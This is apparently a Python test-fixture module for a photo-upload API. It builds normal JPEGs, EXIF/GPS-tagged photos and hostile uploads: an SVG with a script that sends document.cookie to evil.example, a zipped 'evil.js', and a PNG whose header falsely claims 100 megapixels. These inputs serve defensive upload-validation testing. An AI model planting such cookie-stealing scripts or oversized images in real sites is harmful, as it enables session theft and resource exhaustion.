"""Pictures for tests: plain photos as a tablet sends them, and files that pretend to be one."""

from __future__ import annotations

import io
import struct
import zipfile
from typing import Any

from PIL import Image

JPEG = "image/jpeg"
FOTOS = "/api/fotos"
SCRIPT = b"<script>fetch('//evil.example/'+document.cookie)</script>"
GPS = {0: b"\x02\x02\0\0", 1: "S", 2: (33.0, 27.0, 0.0), 3: "W", 4: (70.0, 39.0, 0.0)}


def a_photo(width: int = 64, height: int = 48, colour: tuple[int, int, int] = (200, 40, 20), **options: Any) -> bytes:
    return _saved(Image.new("RGB", (width, height), colour), "JPEG", **options)


def numbered_photo(number: int) -> bytes:
    """Each has other bytes."""
    return a_photo(16, 16, (number % 256, number // 256 % 256, 99))


def with_location(orientation: int = 6) -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "CamaraSecreta"
    exif[0x0112] = orientation
    exif.get_ifd(0x8825).update(GPS)
    return a_photo(exif=exif, comment=b"tomada en la casa de Ana", icc_profile=b"perfil" * 50)


def a_picture(kind: str, size: tuple[int, int] = (64, 48)) -> bytes:
    return _saved(Image.new("RGB", size), kind)


def segment(marker: int, payload: bytes) -> bytes:
    return b"\xff" + bytes((marker,)) + struct.pack(">H", len(payload) + 2) + payload


def after_start(photo: bytes, inserted: bytes) -> bytes:
    return photo[:2] + inserted + photo[2:]


def a_zip(name: str = "evil.js") -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        archive.writestr(name, "alert(1)")
    return held.getvalue()


def a_png_of_100_megapixels() -> bytes:
    """Its header says so; no decoder needs to believe it."""
    header = struct.pack(">IIBBBBB", 10_000, 10_000, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR" + header + b"\0\0\0\0"


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
HEIC = b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + b"\0" * 200


def _saved(image: Image.Image, kind: str, **options: Any) -> bytes:
    held = io.BytesIO()
    image.save(held, kind, **options)
    return held.getvalue()
